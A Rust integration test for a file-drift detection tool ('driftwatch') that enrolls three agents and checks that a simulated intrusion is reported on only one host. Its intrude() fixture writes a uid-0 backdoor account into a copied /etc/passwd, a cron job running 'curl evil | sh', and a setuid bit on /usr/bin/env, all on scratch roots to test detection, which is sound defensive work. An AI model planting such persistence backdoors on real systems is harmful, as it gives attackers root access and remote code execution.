//! The real binaries together: a collector, agents enrolled with a token and running the
//! daemon on their own copies of a Debian root, drift found and reported, and the collector's
//! view read back with the `driftwatch` CLI. Every wait is bounded.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::Duration;

use driftwatch_tests::fleet::{Agent, Collector, Drift, Image, drift, postgres_url};
use driftwatch_tests::{debian, postgres, require_root};

const SETTLE: Duration = Duration::from_secs(45);

/// The drift an intruder leaves: /etc/passwd edited, a cron job added, a setuid binary.
fn intrude(root: &Path) -> Vec<Drift> {
    let passwd = root.join("etc/passwd");
    let mut text = fs::read_to_string(&passwd).unwrap();
    text.push_str("toor:x:0:0::/root:/bin/sh\n");
    fs::write(&passwd, text).unwrap();
    fs::write(
        root.join("etc/cron.d/evil"),
        "* * * * * root curl evil | sh\n",
    )
    .unwrap();
    fs::set_permissions(root.join("usr/bin/env"), fs::Permissions::from_mode(0o4755)).unwrap();
    let mut want = vec![
        drift("/etc/passwd", "modified"),
        drift("/etc/cron.d/evil", "added"),
        drift("/usr/bin/env", "modified"),
    ];
    want.sort();
    want
}

/// Three agents on their own roots; all clean; one intruded; only that one drifted.
fn fleet_body(database_url: Option<&str>) {
    let started = std::time::Instant::now();
    let base = debian::minbase();
    let work = tempfile::tempdir().unwrap();
    let image = Image::create(&base, work.path());
    let collector = Collector::start(work.path(), database_url);
    let token = collector.token(3);
    let fp = collector.ca_fingerprint();

    let roots: Vec<_> = (0..3).map(|_| debian::copy(&base)).collect();
    let mut agents: Vec<Agent> = roots
        .iter()
        .enumerate()
        .map(|(i, root)| {
            let dir = work.path().join(format!("agent-{i}"));
            fs::create_dir_all(&dir).unwrap();
            Agent::enroll(
                &collector,
                &token,
                &fp,
                &format!("host-{i}"),
                &dir,
                root.path(),
                &image,
            )
        })
        .collect();
    eprintln!("{:?}: enrolled", started.elapsed());
    for a in &mut agents {
        a.start();
    }
    collector.wait_for_state(
        "three clean hosts",
        SETTLE,
        &[
            ("host-0", vec![]),
            ("host-1", vec![]),
            ("host-2", vec![]),
        ],
    );
    assert_eq!(collector.try_hosts().unwrap().len(), 3);

    eprintln!("{:?}: three clean", started.elapsed());
    let want = intrude(roots[1].path());
    agents[1].scan_now();
    collector.wait_for_state(
        "host-1 drifted, the others clean",
        SETTLE,
        &[
            ("host-0", vec![]),
            ("host-1", want),
            ("host-2", vec![]),
        ],
    );

    eprintln!("{:?}: host-1 drifted", started.elapsed());
    let found = collector
        .cli(&["violations", "search", "--path", "/etc/cron.d/*"])
        .unwrap();
    let hosts: Vec<&str> = found["violations"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["host_id"].as_str().unwrap())
        .collect();
    assert_eq!(hosts, ["host-1"], "search: {found}");
    for a in &agents {
        a.wait_spool_empty(SETTLE);
    }
}

#[test]
fn fleet_on_sqlite_reports_exactly_the_drifted_host() {
    if !require_root("copies of a Debian root with their ownership") {
        return;
    }
    fleet_body(None);
}

#[test]
fn fleet_on_postgres_reports_exactly_the_drifted_host() {
    if !require_root("copies of a Debian root with their ownership") {
        return;
    }
    let Some(pg) = postgres::server() else {
        return;
    };
    let url = postgres_url(&pg.create_database("fleet"));
    fleet_body(Some(&url));
}
